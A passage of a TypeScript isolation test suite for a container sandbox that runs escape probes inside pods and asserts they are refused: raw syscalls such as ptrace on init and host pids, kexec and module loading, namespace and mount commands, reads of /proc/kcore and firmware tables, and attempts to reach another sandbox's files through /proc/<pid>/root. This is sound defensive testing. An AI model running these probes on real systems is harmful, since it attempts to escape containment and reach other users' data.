    'mount': (165, b'none', b'/tmp', b'tmpfs', 0, None),
    'umount2(/proc/sys)': (166, b'/proc/sys', 2),
    'bpf(BPF_MAP_CREATE)': (321, 0, None, 0),
    'keyctl(GET_KEYRING_ID)': (250, 0, -4, 0),
    'add_key(process keyring)': (248, b'user', b'asb-probe', b'v', 1, -2),
    'request_key': (249, b'user', b'asb-probe', None, 0),
    'ptrace(ATTACH, 1)': (101, 16, 1, 0, 0),
    'ptrace(ATTACH, host pid)': (101, 16, ${String(hostPid)}, 0, 0),
    'process_vm_readv(1)': (310, 1, None, 0, None, 0, 0),
    'perf_event_open': (298, None, 0, -1, -1, 0),
    'open_by_handle_at': (304, -100, None, 0),
    'io_uring_setup': (425, 1, None),
    'userfaultfd': (323, 1),
    'kexec_load': (246, 0, 0, None, 0),
    'init_module': (175, None, 0, b''),
    'finit_module': (313, -1, b'', 0),
    'swapon': (167, b'/tmp/none', 0),
    'pivot_root': (155, b'/tmp', b'/tmp'),
    'iopl': (172, 3),
}
for name, (nr, *args) in probes.items():
    r, err = call(nr, *args)
    print(f'{name}={err or "ok"}')
    if name == 'ptrace(ATTACH, 1)' and r >= 0:
        call(101, 17, 1, 0, 0)  # PTRACE_DETACH: never leave the sandbox's init stopped
# clone(CLONE_NEWUSER) directly: a child (if any) exits at once.
pid, err = call(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
print(f'clone(CLONE_NEWUSER)={err or "ok"}')
`;
}

const kernelSurfaceAttack: Attack = {
  name: 'unshare, setns, mount, bpf, keyctl, ptrace, perf, io_uring, module and kexec syscalls fail, as the user and as the sandbox\'s root',
  async run(a) {
    const p = await a.pod('syscalls');
    for (const user of [undefined, 0]) {
      const opts = user === undefined ? {} : { user };
      const r = await p.exec(['python3', '-c', kernelSurfacePy(process.pid)], opts);
      const f = fields(r.out);
      assert.ok(f.size >= 23, `${r.out}${r.err}`);
      for (const [name, got] of f) {
        assert.ok(got === 'EPERM' || got === 'ENOSYS', `as ${String(user ?? 'the user')}: ${name} gave ${got}, not refused by seccomp:\n${r.out}`);
      }
      // The commands a user would type.
      const cmds = await p.sh(`unshare -U true 2>&1; echo unshare_U=$?
        unshare -Ur id -u 2>&1; echo unshare_Ur=$?
        unshare -m true 2>&1; echo unshare_m=$?
        mkdir -p /tmp/mnt; mount -t tmpfs none /tmp/mnt 2>&1; echo mount=$?
        nsenter -t 1 -m true 2>&1; echo nsenter=$?`, opts);
      const c = fields(cmds.out);
      for (const name of ['unshare_U', 'unshare_Ur', 'unshare_m', 'mount', 'nsenter']) assert.notEqual(c.get(name), '0', `as ${String(user ?? 'the user')}: ${name} worked:\n${cmds.out}`);
    }
  },
};

const HIDDEN_PY = `
import os, sys
host_pid = int(sys.argv[1])
pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
cmdlines = []
for p in pids:
    if p == os.getpid():
        continue
    try:
        cmdlines.append(open(f'/proc/{p}/cmdline', 'rb').read().replace(b'\\0', b' ').decode().strip())
    except OSError:
        pass
print('pids=' + ' '.join(map(str, pids)))
print('cmdlines=' + ' | '.join(cmdlines))
try:
    os.kill(host_pid, 0)
    print('kill_host=ok')
except OSError as e:
    print('kill_host=' + type(e).__name__)
`;

const processesAttack: Attack = {
  name: 'no process outside the sandbox is visible or reachable: the host\'s and other sandboxes\' pids are hidden',
  async run(a) {
    const other = await a.pod('pids-other', { command: ['sh', '-c', 'exec sleep 3141592'] });
    const p = await a.pod('pids');
    for (const user of [undefined, 0]) {
      const r = await p.exec(['python3', '-c', HIDDEN_PY, String(process.pid)], user === undefined ? {} : { user });
      const f = fields(r.out);
      assert.equal(f.get('kill_host'), 'ProcessLookupError', r.out);
      assert.doesNotMatch(f.get('cmdlines') ?? '', /node|runc|3141592|oci-shim|launcher/, `processes of the host or another sandbox are visible: ${r.out}`);
      assert.ok((f.get('pids') ?? '').split(' ').length <= 8, r.out);
    }
    assert.ok(other.state().phase === 'Running');
  },
};

const maskedPathsAttack: Attack = {
  name: '/proc/kcore, /sys/firmware and the other masked /proc files cannot be read, as the user or the sandbox\'s root',
  async run(a) {
    const p = await a.pod('masked');
    for (const user of [undefined, 0]) {
      const r = await p.sh(`for f in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /sys/firmware/acpi/tables/DSDT /sys/firmware/memmap/0/start; do
          echo "$f=$(head -c 64 "$f" 2>/dev/null | wc -c)"; done
        echo firmware_entries=$(ls -A /sys/firmware 2>/dev/null | wc -l)
        echo firmware_files=$(find /sys/firmware -type f 2>/dev/null | wc -l)`, user === undefined ? {} : { user });
      for (const [name, bytes] of fields(r.out)) assert.equal(bytes, '0', `as ${String(user ?? 'the user')}: ${name} gave ${bytes}:\n${r.out}`);
    }
  },
};

// ---------------------------------------------------------------------------------------------
// Other sandboxes' files: every sandbox's root is the same host uid range (ROOT_ID_MAP), so no
// file permission would stop root in one from another's files; only not reaching them does.

const crossSandboxAttack: Attack = {
  name: 'a sandbox cannot reach another sandbox\'s files by any path: writable layer, volumes, /proc/<pid>/root, overlay and runtime paths, SysV IPC',
  async run(a) {
    const token = `tok${String(process.pid)}x${String(Date.now())}`;
    const withVolume = { volumeMounts: [{ name: 'data', mountPath: '/workspace' }] };
    const volumes = { volumeClaimTemplates: [{ metadata: { name: 'data' }, spec: {} }] };
    const victim = await a.pod('files-victim', withVolume, volumes);
    const thief = await a.pod('files-thief', withVolume, volumes);
    const planted = await victim.sh(`echo ${token} > ~/victim-${token} && echo ${token} > /tmp/victim-${token} && echo ${token} > /workspace/victim-${token} && ipcmk -M 4096 -p 0600 >/dev/null && echo ok`);
    assert.equal(planted.out.trim(), 'ok', planted.err);
    await thief.sh(`echo mine > ~/thief-${token}`);

    // Where the victim's files live on the host, and what the runtime keeps about it.
    const victimDir = join(a.root, 'pods', victim.id);
    const hostPaths = [
      join(victimDir, 'upper', 'home', 'user', `victim-${token}`),
      join(a.root, 'volumes', victim.id, 'data', `victim-${token}`),
      join(victimDir, 'config.json'),
      join(a.root, 'runc', victim.id, 'state.json'),
      a.root,
      '/run/asb',
      '/run/asb/rootfs',
    ];
    for (const user of [undefined, 0]) {
      const who = `as ${String(user ?? 'the user')}`;
      const r = await thief.sh(`find / \\( -path /proc -o -path /sys \\) -prune -o -name '*-${token}' -print 2>/dev/null
        for p in /proc/[0-9]*; do cat $p/root/home/user/victim-${token} $p/root/tmp/victim-${token} $p/root/workspace/victim-${token} $p/cwd/victim-${token} 2>/dev/null; done
        for p in ${hostPaths.join(' ')}; do test -e "$p" && echo "exists=$p"; cat "$p" 2>/dev/null; done
        grep -rs ${token} /dev/shm /run /var/tmp /tmp /workspace /home 2>/dev/null
        echo shm_segments=$(ipcs -m | grep -c '^0x')`, user === undefined ? {} : { user });
      // The search works: it finds the thief's own file.
      assert.match(r.out, new RegExp(`/home/user/thief-${token}`), `${who}: the search found nothing at all:\n${r.out}${r.err}`);
      assert.doesNotMatch(r.out, new RegExp(`victim-${token}|^${token}$`, 'm'), `${who}: the victim's files are reachable:\n${r.out}`);
      assert.equal(fields(r.out).get('shm_segments'), '0', `${who}: the victim's SysV shared memory is visible:\n${r.out}`);
      assert.doesNotMatch(r.out, /^exists=/m, `${who}: a host path of the runtime is visible:\n${r.out}`);
    }
  },
};

// ---------------------------------------------------------------------------------------------
// gVisor: the kernel a sandbox talks to is gVisor's sentry, not the host's.

const gvisorKernelAttack: Attack = {
  name: 'the kernel the sandbox sees is gVisor\'s: uname and /proc/version are not the host\'s',
  classes: ['gvisor'],
  async run(a) {
    const p = await a.pod('kernel');
    const r = await p.sh('uname -r; cat /proc/version');
    const [release = '', version = ''] = r.out.split('\n');
    assert.notEqual(release, '', r.out + r.err);
    assert.notEqual(release, (await readFile('/proc/sys/kernel/osrelease', 'utf8')).trim(), r.out);
    assert.notEqual(version, (await readFile('/proc/version', 'utf8')).trim(), r.out);
  },
};

const attacks: Attack[] = [
  plantedBinaryAttack,
  sysctlAttack,
  wakeSymlinkAttack,
  subPathSymlinkAttack,
  keyringAttack,
  forkBombAttack,
  gvisorForkBombAttack,
  memoryBombAttack,
  gvisorMemoryBombAttack,
  shmAttack,
  devFillAttack,
  diskFillAttack,
  setuidAttack,
  kernelSurfaceAttack,
  processesAttack,
  maskedPathsAttack,
  crossSandboxAttack,
  gvisorKernelAttack,
];

lab.register(attacks);
